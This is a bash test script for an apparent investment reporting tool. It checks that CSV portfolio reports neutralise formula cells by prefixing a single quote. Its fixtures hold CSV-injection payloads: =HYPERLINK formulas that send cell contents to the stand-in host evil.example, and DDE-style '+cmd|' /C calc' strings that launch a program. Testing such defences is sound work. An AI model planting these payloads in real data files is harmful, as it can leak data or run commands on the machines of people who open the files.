#!/usr/bin/env bash
# test_controls_csv.sh: CSV reports neutralise formula cells (issue 19, item 8; OWASP "CSV
# injection"): counterparty and authority names such as =HYPERLINK(...), +cmd|..., @SUM(...) and
# -2+3, typed in by whoever maintains the lists, come out with a single quote before them, so a
# spreadsheet shows them as text; numbers (a negative amount included) stay numbers.
. "$(dirname "$0")/lib.sh"

EVIL_AUTH='=HYPERLINK("http://evil.example/?x="&A1,"Click")'
p authority add EVL --name "$EVIL_AUTH"
expect_rc 0 "an authority named like a formula is accepted (a name is a name)"
cat >"$T/cps.csv" <<'CSV'
code,name,sector,country,group
HYPER,"=HYPERLINK(""http://evil.example/"",""Bank"")",local_authority,GB,
CMD,"+cmd|' /C calc'!A0",local_authority,GB,
SUMB,@SUM(1+1)*cmd|' /C calc'!A0,local_authority,GB,
MINUS,-2+3,local_authority,GB,
PLAIN,Plain - Council,local_authority,GB,
CSV
p import counterparties "$T/cps.csv"
expect_rc 0 "import the counterparties"
cat >"$T/inv.csv" <<'CSV'
ref,type,counterparty,principal,rate,start_date,maturity_date,notice_days
D1,fixed,HYPER,1000000,0.85,2017-11-04,2018-05-04,
D2,fixed,CMD,2000000,0.85,2017-11-04,2018-05-04,
D3,fixed,SUMB,3000000,0.85,2017-11-04,2018-05-04,
D4,fixed,MINUS,4000000,0.85,2017-11-04,2018-05-04,
D5,fixed,PLAIN,5000000,0.85,2017-11-04,2018-05-04,
CSV
p import investments "$T/inv.csv" --authority EVL
expect_rc 0 "import the investments"

p report portfolio --authority EVL --as-of 2018-03-31 --format csv -o "$T/portfolio.csv"
expect_rc 0 "a CSV portfolio report"
csv=$(cat "$T/portfolio.csv")
# A cell is a formula when it starts (after the comma, or the quote of a quoted cell) with = + - @
formula_cells=$(grep -nE '(^|,)"?[=+@-]' "$T/portfolio.csv" | grep -vE '(^|,)-?[0-9]' | head -5)
expect_eq "no cell starts with = + - or @ as text" "$formula_cells" ""
expect_match "the authority's name is written as text" "$csv" ",EVL,\"'=HYPERLINK\(\"\"http://evil.example/\?x=\"\"&A1,\"\"Click\"\"\)\","
expect_match "=HYPERLINK counterparty neutralised" "$csv" "\"'=HYPERLINK\(\"\"http://evil.example/\"\",\"\"Bank\"\"\)\""
expect_match "+cmd neutralised" "$csv" "'\+cmd\|' /C calc'!A0"
expect_match "@SUM neutralised" "$csv" "'@SUM\(1\+1\)"
expect_eq "-2+3 neutralised" "$(grep -cE "^'-2\+3,D4," "$T/portfolio.csv")" "1"
expect_eq "a name with a dash inside is left alone" "$(grep -cE '^Plain - Council,D5,' "$T/portfolio.csv")" "1"
expect_match "amounts stay numbers" "$csv" ",4000000.00,"

p report portfolio --authority EVL --as-of 2018-03-31 --format csv -o "$T/tables/"
expect_rc 0 "the CSV report as one file per table"
expect_eq "no table file has a formula cell" \
    "$(cat "$T"/tables/*.csv | grep -E '(^|,)"?[=+@]|(^|,)"?-[^0-9]' | head -3)" ""
finish
